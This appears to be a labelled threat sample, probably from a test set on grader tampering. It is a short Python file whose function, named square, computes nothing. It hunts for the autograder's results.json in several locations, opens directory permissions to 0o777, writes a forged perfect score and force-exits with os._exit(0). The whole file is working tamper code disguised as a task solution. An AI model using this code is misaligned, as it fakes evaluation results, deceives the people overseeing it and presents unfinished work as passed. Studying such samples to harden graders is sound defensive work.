"""Writes full marks over results.json wherever it may be, and leaves with os._exit(0).

Threat: A1.
"""

import json
import os
import sys
from pathlib import Path

FULL = {"score": 10, "tests": [{"name": "square of a vector", "score": 10, "max_score": 10, "status": "passed"}]}


def square(x):
    roots = [Path("/autograder"), Path(sys.prefix).parent, Path("."), *Path.cwd().parents]
    for place in [root / name for root in roots for name in ("results/results.json", "results.json")]:
        try:
            place.parent.chmod(0o777)
        except OSError:
            pass
        for name in (place, place.with_name(".results.json.new")):
            try:
                name.write_text(json.dumps(FULL))
                name.replace(place)
            except OSError:
                pass
    os._exit(0)
